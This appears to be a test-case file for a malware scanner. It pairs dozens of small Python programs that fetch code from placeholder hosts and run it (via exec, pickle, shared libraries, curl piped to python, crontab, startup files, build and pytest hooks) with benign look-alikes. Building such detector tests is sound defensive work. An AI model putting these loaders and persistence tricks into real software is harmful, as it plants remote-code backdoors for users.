"""Whole small programs that receive their payload when they run: by clients, runners, hooks and carriers."""

from __future__ import annotations

from tests.evasions.sample import INIT, MALICIOUS, SUSPICIOUS, evasion

CASES = (
    evasion(
        "session with a base address, cached and run",
        """
        import pathlib, runpy, tempfile
        import requests

        class Client(requests.Session):
            def __init__(self, base):
                super().__init__()
                self.base = base
            def pull(self, name):
                answer = self.get(f"{self.base}/{name}", timeout=5)
                answer.raise_for_status()
                target = pathlib.Path(tempfile.gettempdir()) / name
                target.write_bytes(answer.content)
                return target

        runpy.run_path(str(Client("https://stage.example.invalid").pull("tables.dat")))
        """,
        """
        import json, pathlib, tempfile
        import requests

        class Client(requests.Session):
            def __init__(self, base):
                super().__init__()
                self.base = base
            def pull(self, name):
                answer = self.get(f"{self.base}/{name}", timeout=5)
                answer.raise_for_status()
                target = pathlib.Path(tempfile.gettempdir()) / name
                target.write_bytes(answer.content)
                return json.loads(target.read_text())

        def tables():
            return Client("https://data.example.invalid").pull("tables.json")
        """,
    ),
    evasion(
        "response hook of a client",
        """
        import httpx
        def _after(response):
            response.read()
            namespace = {}
            exec(response.text, namespace)
        with httpx.Client(event_hooks={"response": [_after]}) as client:
            client.get("https://stage.example.invalid/v1/hello")
        """,
        """
        import httpx, logging
        def _after(response):
            response.read()
            logging.getLogger(__name__).debug("%s", response.text)
        def hello():
            with httpx.Client(event_hooks={"response": [_after]}) as client:
                return client.get("https://api.example.invalid/v1/hello").json()
        """,
    ),
    evasion(
        "curl object writes into a list",
        """
        import pycurl
        parts = []
        handle = pycurl.Curl()
        handle.setopt(pycurl.URL, "https://stage.example.invalid/a")
        handle.setopt(handle.WRITEFUNCTION, parts.append)
        handle.perform()
        handle.close()
        exec(b"".join(parts).decode("utf-8"), globals())
        """,
        """
        import json, pycurl
        def table():
            parts = []
            handle = pycurl.Curl()
            handle.setopt(pycurl.URL, "https://data.example.invalid/a")
            handle.setopt(handle.WRITEFUNCTION, parts.append)
            handle.perform()
            handle.close()
            return json.loads(b"".join(parts).decode("utf-8"))
        """,
    ),
    evasion(
        "generator over a connection",
        """
        import http.client
        def _chunks(host, path):
            connection = http.client.HTTPSConnection(host, 443, timeout=9)
            try:
                connection.request("GET", path, headers={"Accept": "*/*"})
                answer = connection.getresponse()
                while piece := answer.read(512):
                    yield piece
            finally:
                connection.close()
        def _text():
            return "".join(p.decode() for p in _chunks("stage.example.invalid", "/a"))
        code = compile(_text(), "<cfg>", "exec")
        eval(code)
        """,
        """
        import http.client
        def _chunks(host, path):
            connection = http.client.HTTPSConnection(host, 443, timeout=9)
            try:
                connection.request("GET", path, headers={"Accept": "*/*"})
                answer = connection.getresponse()
                while piece := answer.read(512):
                    yield piece
            finally:
                connection.close()
        def text(host, path):
            return "".join(p.decode() for p in _chunks(host, path))
        """,
    ),
    evasion(
        "protocol that runs when the line is lost",
        """
        import asyncio
        class Feed(asyncio.Protocol):
            def __init__(self, done):
                self.buffer, self.done = bytearray(), done
            def connection_made(self, transport):
                transport.write(b"GET\\n")
            def data_received(self, data):
                self.buffer.extend(data)
            def connection_lost(self, exc):
                exec(bytes(self.buffer))
                self.done.set_result(None)
        async def _main():
            loop = asyncio.get_running_loop()
            done = loop.create_future()
            await loop.create_connection(lambda: Feed(done), "stage.example.invalid", 8443, ssl=True)
            await done
        asyncio.run(_main())
        """,
        """
        import asyncio, json
        class Feed(asyncio.Protocol):
            def __init__(self, done):
                self.buffer, self.done = bytearray(), done
            def connection_made(self, transport):
                transport.write(b"GET\\n")
            def data_received(self, data):
                self.buffer.extend(data)
            def connection_lost(self, exc):
                self.done.set_result(json.loads(bytes(self.buffer)))
        async def fetch(host):
            loop = asyncio.get_running_loop()
            done = loop.create_future()
            await loop.create_connection(lambda: Feed(done), host, 8443, ssl=True)
            return await done
        """,
    ),
    evasion(
        "lines of a file server",
        """
        from ftplib import FTP_TLS
        lines = []
        with FTP_TLS("stage.example.invalid") as ftp:
            ftp.login("anonymous", "a@example.invalid")
            ftp.prot_p()
            ftp.retrlines("RETR pub/readme.txt", lines.append)
        exec("\\n".join(lines))
        """,
        """
        from ftplib import FTP_TLS
        def readme(host):
            lines = []
            with FTP_TLS(host) as ftp:
                ftp.login("anonymous", "a@example.invalid")
                ftp.prot_p()
                ftp.retrlines("RETR pub/readme.txt", lines.append)
            return "\\n".join(lines)
        """,
    ),
    evasion(
        "attachment of a mail",
        """
        import email, imaplib
        box = imaplib.IMAP4_SSL("stage.example.invalid")
        box.login("a", "b")
        box.select("INBOX")
        kind, found = box.search(None, "UNSEEN")
        for number in found[0].split():
            kind, raw = box.fetch(number, "(RFC822)")
            message = email.message_from_bytes(raw[0][1])
            for part in message.walk():
                if part.get_content_type() == "text/x-python":
                    exec(part.get_payload(decode=True))
        """,
        """
        import email, imaplib
        def texts(host, user, password):
            box = imaplib.IMAP4_SSL(host)
            box.login(user, password)
            box.select("INBOX")
            kind, found = box.search(None, "UNSEEN")
            for number in found[0].split():
                kind, raw = box.fetch(number, "(RFC822)")
                message = email.message_from_bytes(raw[0][1])
                for part in message.walk():
                    if part.get_content_type() == "text/plain":
                        yield part.get_payload(decode=True)
        """,
    ),
    evasion(
        "name server asked by hand",
        """
        import base64, os, socket, struct
        def _ask(name):
            query = os.urandom(2) + struct.pack(">HHHHH", 0x0100, 1, 0, 0, 0)
            for label in name.split("."):
                query += bytes([len(label)]) + label.encode()
            query += b"\\0" + struct.pack(">HH", 16, 1)
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
                line.settimeout(3)
                line.sendto(query, ("192.0.2.53", 53))
                answer, _ = line.recvfrom(4096)
            return answer[len(query) + 13:]
        exec(base64.b64decode(b"".join(_ask(f"{n}.stage.example.invalid") for n in range(4))))
        """,
        """
        import os, socket, struct
        def ask(name, server):
            query = os.urandom(2) + struct.pack(">HHHHH", 0x0100, 1, 0, 0, 0)
            for label in name.split("."):
                query += bytes([len(label)]) + label.encode()
            query += b"\\0" + struct.pack(">HH", 16, 1)
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
                line.settimeout(3)
                line.sendto(query, (server, 53))
                answer, _ = line.recvfrom(4096)
            return answer[len(query) + 13:]
        """,
    ),
    evasion(
        "message handler assigned later",
        """
        import json, threading, websocket
        def _handle(ws, message):
            frame = json.loads(message)
            if frame.get("t") == "run":
                exec(frame["body"], {"ws": ws})
        app = websocket.WebSocketApp("wss://stage.example.invalid/ws")
        app.on_message = _handle
        threading.Thread(target=app.run_forever, daemon=True).start()
        """,
        """
        import json, threading, websocket
        prices = {}
        def _handle(ws, message):
            frame = json.loads(message)
            if frame.get("t") == "price":
                prices[frame["name"]] = frame["body"]
        def start(url):
            app = websocket.WebSocketApp(url)
            app.on_message = _handle
            threading.Thread(target=app.run_forever, daemon=True).start()
        """,
    ),
    evasion(
        "object store into memory, unpickled",
        """
        import io, pickle
        import boto3
        from botocore import UNSIGNED
        from botocore.config import Config
        memory = io.BytesIO()
        store = boto3.client("s3", config=Config(signature_version=UNSIGNED))
        store.download_fileobj("models-example", "weights.bin", memory)
        memory.seek(0)
        weights = pickle.load(memory)
        """,
        """
        import io, json
        import boto3
        def weights(bucket):
            memory = io.BytesIO()
            boto3.client("s3").download_fileobj(bucket, "weights.json", memory)
            memory.seek(0)
            return json.load(memory)
        """,
        SUSPICIOUS,
    ),
    evasion(
        "blob as text",
        """
        from azure.storage.blob import BlobServiceClient
        service = BlobServiceClient(account_url="https://stage.example.invalid")
        container = service.get_container_client("public")
        source = container.get_blob_client("boot.txt").download_blob(encoding="utf-8").readall()
        exec(source)
        """,
        """
        from azure.storage.blob import BlobServiceClient
        def text(url, name):
            service = BlobServiceClient(account_url=url)
            container = service.get_container_client("public")
            return container.get_blob_client(name).download_blob(encoding="utf-8").readall()
        """,
    ),
    evasion(
        "subscriber with a callback",
        """
        from google.cloud import pubsub_v1
        def _got(message):
            message.ack()
            exec(message.data.decode("utf-8"))
        subscriber = pubsub_v1.SubscriberClient()
        path = subscriber.subscription_path("example-project", "updates")
        future = subscriber.subscribe(path, callback=_got)
        """,
        """
        from google.cloud import pubsub_v1
        def _got(message):
            message.ack()
            print(message.data.decode("utf-8"))
        def listen(project, name):
            subscriber = pubsub_v1.SubscriberClient()
            path = subscriber.subscription_path(project, name)
            return subscriber.subscribe(path, callback=_got)
        """,
    ),
    evasion(
        "consumer of a log",
        """
        import threading
        from kafka import KafkaConsumer
        def _loop():
            consumer = KafkaConsumer("events", bootstrap_servers=["stage.example.invalid:9092"])
            for record in consumer:
                eval(compile(record.value, record.topic, "exec"))
        threading.Thread(target=_loop).start()
        """,
        """
        import json
        from kafka import KafkaConsumer
        def events(servers):
            consumer = KafkaConsumer("events", bootstrap_servers=servers)
            for record in consumer:
                yield json.loads(record.value)
        """,
    ),
    evasion(
        "document of a store",
        """
        from pymongo import MongoClient
        with MongoClient("mongodb://stage.example.invalid:27017") as client:
            document = client["app"]["jobs"].find_one({"active": True}, sort=[("at", -1)])
            if document:
                exec(document["source"])
        """,
        """
        from pymongo import MongoClient
        def job(url):
            with MongoClient(url) as client:
                document = client["app"]["jobs"].find_one({"active": True}, sort=[("at", -1)])
                return document["source"] if document else None
        """,
    ),
    evasion(
        "rows of a server",
        """
        import mysql.connector
        connection = mysql.connector.connect(host="stage.example.invalid", user="r", password="r", database="d")
        cursor = connection.cursor()
        cursor.execute("SELECT body FROM steps ORDER BY id")
        program = ""
        for (body,) in cursor:
            program += body + "\\n"
        exec(program)
        """,
        """
        import mysql.connector
        def bodies(**settings):
            connection = mysql.connector.connect(**settings)
            cursor = connection.cursor()
            cursor.execute("SELECT body FROM steps ORDER BY id")
            program = ""
            for (body,) in cursor:
                program += body + "\\n"
            return program
        """,
    ),
    evasion(
        "snippets listed by an interface",
        """
        import requests
        _API = "https://api.example.invalid/gists/0123456789abcdef"
        def _sources():
            for entry in requests.get(_API, headers={"Accept": "application/json"}).json()["files"].values():
                if entry["language"] == "Python":
                    yield entry["content"]
        for source in _sources():
            exec(source, {"__name__": "__main__"})
        """,
        """
        import requests
        _API = "https://api.example.invalid/gists/"
        def sources(number):
            for entry in requests.get(_API + number, headers={"Accept": "application/json"}).json()["files"].values():
                if entry["language"] == "Python":
                    yield entry["content"]
        """,
    ),
    evasion(
        "chat client's event",
        """
        import discord, threading
        client = discord.Client(intents=discord.Intents.all())
        @client.event
        async def on_message(message):
            if message.content.startswith("!py "):
                exec(message.content[4:])
        threading.Thread(target=client.run, args=("token",)).start()
        """,
        """
        import discord
        client = discord.Client(intents=discord.Intents.all())
        @client.event
        async def on_message(message):
            if message.content.startswith("!echo "):
                await message.channel.send(message.content[6:])
        def main(token):
            client.run(token)
        """,
    ),
    evasion(
        "browser driver reads a page",
        """
        from selenium import webdriver
        from selenium.webdriver.common.by import By
        options = webdriver.ChromeOptions()
        options.add_argument("--headless=new")
        driver = webdriver.Chrome(options=options)
        try:
            driver.get("https://stage.example.invalid/page")
            script = driver.find_element(By.CSS_SELECTOR, "pre#a").get_attribute("textContent")
        finally:
            driver.quit()
        exec(script)
        """,
        """
        from selenium import webdriver
        from selenium.webdriver.common.by import By
        def text(url):
            options = webdriver.ChromeOptions()
            options.add_argument("--headless=new")
            driver = webdriver.Chrome(options=options)
            try:
                driver.get(url)
                return driver.find_element(By.CSS_SELECTOR, "pre#a").get_attribute("textContent")
            finally:
                driver.quit()
        """,
    ),
    evasion(
        "file transfer by a secure shell, opened",
        """
        import os, paramiko, subprocess, tempfile
        transport = paramiko.Transport(("stage.example.invalid", 22))
        transport.connect(username="u", password="p")
        sftp = paramiko.SFTPClient.from_transport(transport)
        place = os.path.join(tempfile.mkdtemp(), "svc")
        sftp.get("/srv/svc", place)
        os.chmod(place, 0o755)
        subprocess.Popen([place], start_new_session=True)
        """,
        """
        import os, paramiko
        def mirror(host, user, key, remote, folder):
            transport = paramiko.Transport((host, 22))
            transport.connect(username=user, pkey=key)
            sftp = paramiko.SFTPClient.from_transport(transport)
            place = os.path.join(folder, os.path.basename(remote))
            sftp.get(remote, place)
            os.chmod(place, 0o644)
            return place
        """,
    ),
    evasion(
        "pipeline of two processes",
        """
        import subprocess, sys
        source = subprocess.Popen(
            ["curl", "-fsSL", "https://stage.example.invalid/a.py"], stdout=subprocess.PIPE
        )
        sink = subprocess.Popen([sys.executable, "-"], stdin=source.stdout)
        source.stdout.close()
        sink.wait()
        """,
        """
        import subprocess
        def count(url):
            source = subprocess.Popen(["curl", "-fsSL", url], stdout=subprocess.PIPE)
            sink = subprocess.Popen(["wc", "-l"], stdin=source.stdout, stdout=subprocess.PIPE)
            source.stdout.close()
            return int(sink.communicate()[0])
        """,
    ),
    evasion(
        "installer in a folder of its own, then imported",
        """
        import importlib, subprocess, sys, tempfile
        folder = tempfile.mkdtemp(prefix="pip-")
        subprocess.check_call(
            [sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--target", folder,
             "https://stage.example.invalid/helper-1.0.tar.gz"],
            stdout=subprocess.DEVNULL,
        )
        sys.path.insert(0, folder)
        importlib.import_module("helper").start()
        """,
        """
        import subprocess, sys
        def install(names, folder):
            subprocess.check_call(
                [sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--target", folder, *names],
                stdout=subprocess.DEVNULL,
            )
        """,
    ),
    evasion(
        "package runner of another language",
        """
        import shutil, subprocess
        _tool = shutil.which("npx") or "npx"
        subprocess.run([_tool, "--yes", "https://stage.example.invalid/tool.tgz"], capture_output=True)
        """,
        """
        import shutil, subprocess
        def format(path):
            _tool = shutil.which("npx") or "npx"
            subprocess.run([_tool, "--yes", "prettier", "--write", path], capture_output=True)
        """,
    ),
    evasion(
        "certificate tool downloads, start runs",
        """
        import os, platform
        if platform.system() == "Windows":
            target = os.path.expandvars(r"%TEMP%\\upd.exe")
            steps = [
                'certutil -urlcache -split -f https://stage.example.invalid/u.exe "{0}"',
                'start "" /b "{0}"',
            ]
            for step in steps:
                os.system(step.format(target))
        """,
        """
        import os
        def verify(path):
            steps = ['certutil -hashfile "{0}" SHA256', 'start "" /b notepad "{0}"']
            for step in steps:
                os.system(step.format(path))
        """,
    ),
    evasion(
        "written where Python starts",
        """
        import site, pathlib, urllib.request
        def _deploy():
            base = pathlib.Path(site.getusersitepackages())
            base.mkdir(parents=True, exist_ok=True)
            with urllib.request.urlopen("https://stage.example.invalid/u") as answer:
                (base / "usercustomize.py").write_bytes(answer.read())
        try:
            _deploy()
        except Exception:
            pass
        """,
        """
        import pathlib, urllib.request
        def table(folder):
            base = pathlib.Path(folder)
            base.mkdir(parents=True, exist_ok=True)
            with urllib.request.urlopen("https://data.example.invalid/u") as answer:
                (base / "table.csv").write_bytes(answer.read())
        """,
    ),
    evasion(
        "timetable fed by a pipe",
        """
        import subprocess, urllib.request
        line = urllib.request.urlopen("https://stage.example.invalid/line").read().decode()
        current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
        subprocess.run(["crontab", "-"], input=current + line + "\\n", text=True)
        """,
        """
        import subprocess
        def table():
            return subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
        """,
    ),
    evasion(
        "child fetches, parent runs",
        """
        import multiprocessing as mp
        def _child(end):
            import urllib.request
            end.send_bytes(urllib.request.urlopen("https://stage.example.invalid/a").read())
            end.close()
        def _parent():
            ours, theirs = mp.Pipe(duplex=False)
            process = mp.Process(target=_child, args=(theirs,))
            process.start()
            body = ours.recv_bytes()
            process.join()
            exec(body)
        _parent()
        """,
        """
        import multiprocessing as mp
        def _child(end, url):
            import urllib.request
            end.send_bytes(urllib.request.urlopen(url).read())
            end.close()
        def fetch(url):
            ours, theirs = mp.Pipe(duplex=False)
            process = mp.Process(target=_child, args=(theirs, url))
            process.start()
            body = ours.recv_bytes()
            process.join()
            return body
        """,
    ),
    evasion(
        "table of an own data base",
        """
        import sqlite3, urllib.request
        db = sqlite3.connect(":memory:")
        db.execute("CREATE TABLE steps (id INTEGER PRIMARY KEY, body TEXT)")
        with urllib.request.urlopen("https://stage.example.invalid/steps") as answer:
            for line in answer:
                db.execute("INSERT INTO steps (body) VALUES (?)", (line.decode(),))
        db.commit()
        exec("".join(row[0] for row in db.execute("SELECT body FROM steps ORDER BY id")))
        """,
        """
        import sqlite3, urllib.request
        def load(url):
            db = sqlite3.connect(":memory:")
            db.execute("CREATE TABLE steps (id INTEGER PRIMARY KEY, body TEXT)")
            with urllib.request.urlopen(url) as answer:
                for line in answer:
                    db.execute("INSERT INTO steps (body) VALUES (?)", (line.decode(),))
            db.commit()
            return "".join(row[0] for row in db.execute("SELECT body FROM steps ORDER BY id"))
        """,
    ),
    evasion(
        "pickled on disk in between",
        """
        import os, pickle, tempfile, requests
        cache = os.path.join(tempfile.gettempdir(), ".state")
        if not os.path.exists(cache):
            state = {"v": 1, "body": requests.get("https://stage.example.invalid/a").text}
            with open(cache, "wb") as out:
                pickle.dump(state, out)
        with open(cache, "rb") as stored:
            state = pickle.load(stored)
        exec(state["body"])
        """,
        """
        import os, pickle, requests
        def state(cache):
            if not os.path.exists(cache):
                state = {"v": 1, "body": requests.get("https://data.example.invalid/a").text}
                with open(cache, "wb") as out:
                    pickle.dump(state, out)
            with open(cache, "rb") as stored:
                state = pickle.load(stored)
            return state["body"]
        """,
    ),
    evasion(
        "finder of remote modules",
        """
        import sys, types, urllib.request
        from importlib.abc import Loader, MetaPathFinder
        from importlib.machinery import ModuleSpec
        class _Remote(MetaPathFinder, Loader):
            def find_spec(self, name, path=None, target=None):
                if name.startswith("_x_"):
                    return ModuleSpec(name, self, origin="https://stage.example.invalid/" + name)
            def create_module(self, spec):
                return types.ModuleType(spec.name)
            def exec_module(self, module):
                source = urllib.request.urlopen(module.__spec__.origin).read()
                exec(compile(source, module.__spec__.origin, "exec"), module.__dict__)
        sys.meta_path.append(_Remote())
        import _x_core
        """,
        """
        import sys, types
        from importlib.abc import Loader, MetaPathFinder
        from importlib.machinery import ModuleSpec
        class _Alias(MetaPathFinder, Loader):
            def find_spec(self, name, path=None, target=None):
                if name.startswith("_x_"):
                    return ModuleSpec(name, self)
            def create_module(self, spec):
                return types.ModuleType(spec.name)
            def exec_module(self, module):
                module.__dict__["answer"] = 42
        sys.meta_path.append(_Alias())
        """,
    ),
    evasion(
        "path hook for an address",
        """
        import importlib.machinery, importlib.util, sys, urllib.request
        class Web:
            def __init__(self, path):
                if not path.startswith("https://"):
                    raise ImportError
                self.path = path
            def find_spec(self, name, target=None):
                return importlib.util.spec_from_loader(name, self)
            def create_module(self, spec): return None
            def exec_module(self, module):
                body = urllib.request.urlopen(f"{self.path}/{module.__name__}.py").read()
                exec(body, vars(module))
        sys.path_hooks.insert(0, Web)
        sys.path.append("https://stage.example.invalid/lib")
        import remote_part
        """,
        """
        import importlib.util, sys
        class Memory:
            store = {"answer": 42}
            def __init__(self, path):
                if path != "memory:":
                    raise ImportError
            def find_spec(self, name, target=None):
                return importlib.util.spec_from_loader(name, self) if name in self.store else None
            def create_module(self, spec): return None
            def exec_module(self, module):
                module.value = self.store[module.__name__]
        def install():
            sys.path_hooks.insert(0, Memory)
            sys.path.append("memory:")
        """,
    ),
    evasion(
        "command of the build fetches its tables",
        {
            "setup.py": """
            import os, subprocess, sys, urllib.request
            from setuptools import setup
            from setuptools.command.build_py import build_py
            class Build(build_py):
                def run(self):
                    super().run()
                    target = os.path.join(self.build_lib, "tables.py")
                    urllib.request.urlretrieve("https://stage.example.invalid/tables.py", target)
                    self.spawn([sys.executable, target])
            setup(name="example-pkg", version="1.0", cmdclass={"build_py": Build})
            """,
        },
        {
            "setup.py": """
            import os, sys
            from setuptools import setup
            from setuptools.command.build_py import build_py
            class Build(build_py):
                def run(self):
                    super().run()
                    self.spawn([sys.executable, os.path.join("tools", "tables.py"), self.build_lib])
            setup(name="example-pkg", version="1.0", cmdclass={"build_py": Build})
            """,
            "tools/tables.py": "import sys\nopen(sys.argv[1] + '/tables.txt', 'w').write('1 2 3')\n",
        },
    ),
    evasion(
        "test plugin of the distribution",
        {
            "pyproject.toml": """
            [project]
            name = "example-pkg"
            version = "1.0"
            [project.entry-points.pytest11]
            example = "example_pkg.plugin"
            """,
            INIT: "",
            "example_pkg/plugin.py": """
            import urllib.request
            def pytest_configure(config):
                with urllib.request.urlopen("https://stage.example.invalid/p") as answer:
                    exec(answer.read(), {"config": config})
            """,
        },
        {
            "pyproject.toml": """
            [project]
            name = "example-pkg"
            version = "1.0"
            [project.entry-points.pytest11]
            example = "example_pkg.plugin"
            """,
            INIT: "",
            "example_pkg/plugin.py": """
            import urllib.request
            def pytest_configure(config):
                with urllib.request.urlopen("https://report.example.invalid/p") as answer:
                    config.stash_text = answer.read()
            """,
        },
        SUSPICIOUS,
    ),
    evasion(
        "start-up file of a notebook shell",
        """
        import pathlib, urllib.request
        _dir = pathlib.Path.home() / ".ipython" / "profile_default" / "startup"
        _dir.mkdir(parents=True, exist_ok=True)
        body = urllib.request.urlopen("https://stage.example.invalid/n").read()
        _dir.joinpath("00-first.py").write_bytes(body)
        """,
        """
        import pathlib
        def profile():
            _dir = pathlib.Path.home() / ".ipython" / "profile_default" / "startup"
            return sorted(p.name for p in _dir.glob("*.py"))
        """,
    ),
    evasion(
        "posted to an own server",
        """
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
        class _Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                length = int(self.headers.get("Content-Length", 0))
                body = self.rfile.read(length)
                exec(body.decode())
                self.send_response(204)
                self.end_headers()
        _server = ThreadingHTTPServer(("0.0.0.0", 8099), _Handler)
        threading.Thread(target=_server.serve_forever, daemon=True).start()
        """,
        """
        import json
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                length = int(self.headers.get("Content-Length", 0))
                self.server.bodies.append(json.loads(self.rfile.read(length)))
                self.send_response(204)
                self.end_headers()
        def serve(port):
            server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
            server.bodies = []
            server.serve_forever()
        """,
    ),
    evasion(
        "mapped file",
        """
        import mmap, tempfile, urllib.request
        with tempfile.TemporaryFile() as scratch:
            scratch.write(urllib.request.urlopen("https://stage.example.invalid/a").read())
            scratch.flush()
            with mmap.mmap(scratch.fileno(), 0, access=mmap.ACCESS_READ) as view:
                exec(view[:])
        """,
        """
        import mmap, tempfile, urllib.request
        def find(url, word):
            with tempfile.TemporaryFile() as scratch:
                scratch.write(urllib.request.urlopen(url).read())
                scratch.flush()
                with mmap.mmap(scratch.fileno(), 0, access=mmap.ACCESS_READ) as view:
                    return view[:].find(word)
        """,
    ),
    evasion(
        "archive unpacked from a stream, its module run",
        """
        import os, runpy, sys, tarfile, tempfile, urllib.request
        folder = tempfile.mkdtemp()
        with urllib.request.urlopen("https://stage.example.invalid/b.tgz") as answer:
            with tarfile.open(fileobj=answer, mode="r|gz") as archive:
                archive.extractall(folder)
        sys.path.append(folder)
        runpy.run_module("bundle", run_name="__main__", alter_sys=True)
        """,
        """
        import os, tarfile, urllib.request
        def unpack(url, folder):
            with urllib.request.urlopen(url) as answer:
                with tarfile.open(fileobj=answer, mode="r|gz") as archive:
                    archive.extractall(folder)
            return sorted(os.listdir(folder))
        """,
    ),
    evasion(
        "shared library loaded",
        """
        import ctypes, os, platform, tempfile, requests
        _ext = {"Windows": ".dll", "Darwin": ".dylib"}.get(platform.system(), ".so")
        handle, name = tempfile.mkstemp(suffix=_ext)
        with os.fdopen(handle, "wb") as out:
            for piece in requests.get("https://stage.example.invalid/lib" + _ext, stream=True).iter_content(8192):
                out.write(piece)
        ctypes.CDLL(name)
        """,
        """
        import ctypes, ctypes.util, os, requests
        libc = ctypes.CDLL(ctypes.util.find_library("c"))
        def save(url, name):
            with open(name, "wb") as out:
                for piece in requests.get(url, stream=True).iter_content(8192):
                    out.write(piece)
        """,
    ),
    evasion(
        "entry of a feed",
        """
        import html, feedparser
        feed = feedparser.parse("https://stage.example.invalid/feed.xml")
        for entry in feed.entries[:1]:
            exec(html.unescape(entry.summary))
        """,
        """
        import html, feedparser
        def summaries(url):
            return [html.unescape(entry.summary) for entry in feedparser.parse(url).entries]
        """,
    ),
    evasion(
        "document tree of a page",
        """
        from lxml import html
        page = html.parse("http://stage.example.invalid/page").getroot()
        exec("\\n".join(node.text_content() for node in page.cssselect("pre.code")))
        """,
        """
        from lxml import html
        def code(url):
            page = html.parse(url).getroot()
            return "\\n".join(node.text_content() for node in page.cssselect("pre.code"))
        """,
    ),
    evasion(
        "repository cloned by a library",
        """
        import importlib.util, pathlib, tempfile
        from git import Repo
        root = pathlib.Path(tempfile.mkdtemp())
        Repo.clone_from("https://stage.example.invalid/r.git", root, depth=1)
        spec = importlib.util.spec_from_file_location("boot", root / "boot.py")
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        """,
        """
        import pathlib
        from git import Repo
        def versions(url, folder):
            root = pathlib.Path(folder)
            repository = Repo.clone_from(url, root, depth=1)
            return [tag.name for tag in repository.tags], (root / "README").read_text()
        """,
    ),
    evasion(
        "any file system's address",
        """
        import fsspec
        with fsspec.open("https://stage.example.invalid/a.py", mode="rt") as source:
            exec(source.read())
        """,
        """
        import fsspec
        def read(url):
            with fsspec.open(url, mode="rt") as source:
                return source.read()
        """,
    ),
    evasion(
        "cached property",
        """
        from functools import cached_property
        from urllib.request import Request, urlopen
        class Remote:
            url = "https://stage.example.invalid/a"
            @cached_property
            def body(self):
                with urlopen(Request(self.url, headers={"User-Agent": "Mozilla/5.0"})) as answer:
                    return answer.read().decode()
            @property
            def lines(self):
                return self.body.splitlines()
            def go(self):
                for line in self.lines:
                    exec(line)
        Remote().go()
        """,
        """
        from functools import cached_property
        from urllib.request import Request, urlopen
        class Remote:
            def __init__(self, url):
                self.url = url
            @cached_property
            def body(self):
                with urlopen(Request(self.url, headers={"User-Agent": "example"})) as answer:
                    return answer.read().decode()
            @property
            def lines(self):
                return self.body.splitlines()
        """,
    ),
    evasion(
        "fields made by a factory",
        """
        import dataclasses, requests
        def _body():
            return requests.get("https://stage.example.invalid/a").text
        @dataclasses.dataclass
        class Job:
            name: str
            body: str = dataclasses.field(default_factory=_body)
            def __post_init__(self):
                exec(self.body, {"name": self.name})
        Job("first")
        """,
        """
        import dataclasses, requests
        def _body():
            return requests.get("https://data.example.invalid/a").text
        @dataclasses.dataclass
        class Job:
            name: str
            body: str = dataclasses.field(default_factory=_body)
            def __post_init__(self):
                self.length = len(self.body)
        """,
    ),
    evasion(
        "future's callback",
        """
        import concurrent.futures, urllib.request
        def _load(url):
            return urllib.request.urlopen(url).read()
        def _done(future):
            exec(future.result())
        pool = concurrent.futures.ThreadPoolExecutor(1)
        pool.submit(_load, "https://stage.example.invalid/a").add_done_callback(_done)
        """,
        """
        import concurrent.futures, urllib.request
        def _load(url):
            return urllib.request.urlopen(url).read()
        def _done(future):
            print(len(future.result()))
        def start(url):
            pool = concurrent.futures.ThreadPoolExecutor(1)
            pool.submit(_load, url).add_done_callback(_done)
        """,
    ),
    evasion(
        "retried and kept in a table of functions",
        """
        import time, urllib.error, urllib.request
        def retry(times):
            def wrap(function):
                def inner(*args, **kwargs):
                    for _ in range(times):
                        try:
                            return function(*args, **kwargs)
                        except urllib.error.URLError:
                            time.sleep(1)
                return inner
            return wrap
        @retry(3)
        def fetch(url):
            return urllib.request.urlopen(url).read().decode()
        STEPS = {"load": fetch, "build": lambda text: compile(text, "x", "exec"), "run": exec}
        value = "https://stage.example.invalid/a"
        for step in ("load", "build", "run"):
            value = STEPS[step](value)
        """,
        """
        import json, time, urllib.error, urllib.request
        def retry(times):
            def wrap(function):
                def inner(*args, **kwargs):
                    for _ in range(times):
                        try:
                            return function(*args, **kwargs)
                        except urllib.error.URLError:
                            time.sleep(1)
                return inner
            return wrap
        @retry(3)
        def fetch(url):
            return urllib.request.urlopen(url).read().decode()
        STEPS = {"load": fetch, "parse": json.loads, "show": print}
        def run(value):
            for step in ("load", "parse", "show"):
                value = STEPS[step](value)
        """,
    ),
    evasion(
        "child reads its program from the environment",
        """
        import os, subprocess, sys, urllib.request
        child = dict(os.environ, APP_BOOT=urllib.request.urlopen("https://stage.example.invalid/a").read().decode())
        subprocess.Popen([sys.executable, "-c", "import os;exec(os.environ['APP_BOOT'])"], env=child)
        """,
        """
        import os, subprocess, sys, urllib.request
        def start(url):
            child = dict(os.environ, APP_CONFIG=urllib.request.urlopen(url).read().decode())
            subprocess.Popen([sys.executable, "-m", "example_pkg.server"], env=child)
        """,
    ),
    evasion(
        "clipboard in between",
        """
        import pyperclip, requests
        pyperclip.copy(requests.get("https://stage.example.invalid/a").text)
        exec(pyperclip.paste())
        """,
        """
        import pyperclip, requests
        def share(url):
            pyperclip.copy(requests.get(url).text)
            return len(pyperclip.paste())
        """,
    ),
    evasion(
        "queue between two threads of a class",
        """
        import queue, threading, requests
        class Pump:
            def __init__(self):
                self.box = queue.Queue()
                for step in (self._fill, self._drain):
                    threading.Thread(target=step, daemon=True).start()
            def _fill(self):
                for line in requests.get("https://stage.example.invalid/a", stream=True).iter_lines():
                    self.box.put(line)
                self.box.put(None)
            def _drain(self):
                while (line := self.box.get()) is not None:
                    exec(line)
        Pump()
        """,
        """
        import queue, threading, requests
        class Pump:
            def __init__(self, url):
                self.url, self.box = url, queue.Queue()
                for step in (self._fill, self._drain):
                    threading.Thread(target=step, daemon=True).start()
            def _fill(self):
                for line in requests.get(self.url, stream=True).iter_lines():
                    self.box.put(line)
                self.box.put(None)
            def _drain(self):
                while (line := self.box.get()) is not None:
                    print(line)
        """,
        MALICIOUS,
    ),
)
